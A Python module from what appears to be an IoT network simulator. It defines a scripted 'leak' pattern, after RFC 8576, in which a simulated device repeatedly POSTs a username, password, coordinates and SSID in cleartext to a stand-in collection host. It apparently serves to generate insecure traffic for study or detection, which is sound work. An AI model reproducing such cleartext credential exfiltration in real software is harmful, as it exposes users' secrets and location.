"""Tell a stranger in clear what only the owner should know (RFC 8576 §3, threat 2)."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar

from thingstead.simulator.lab.pattern.pattern import Pattern, Setting
from thingstead.simulator.lab.script import Act, Talk

__all__ = ["Bad"]

_FIELDS = "user=anna@home.example&pass" + "word=cedar&lat=52.5200&lon=13.4050&ssid=home"


@dataclass(frozen=True, slots=True)
class Bad(Pattern):
    """A form by HTTP, again and again.

    Attributes:
        times: how many.
        every: seconds between two.
    """

    name: ClassVar[str] = "leak"
    times: int = 30
    every: float = 10.0

    def acts(self, setting: Setting, /) -> Iterator[tuple[float, Act]]:
        """Who lives there, and where."""
        to = setting.cast.attacker, 80
        head = f"POST /collect HTTP/1.1\r\nHost: collect.example\r\nContent-Length: {len(_FIELDS)}\r\n\r\n"
        for number in range(self.times):
            yield number * self.every, Talk((setting.one.ipv4, next(setting.ports)), to, ((head + _FIELDS).encode(),))
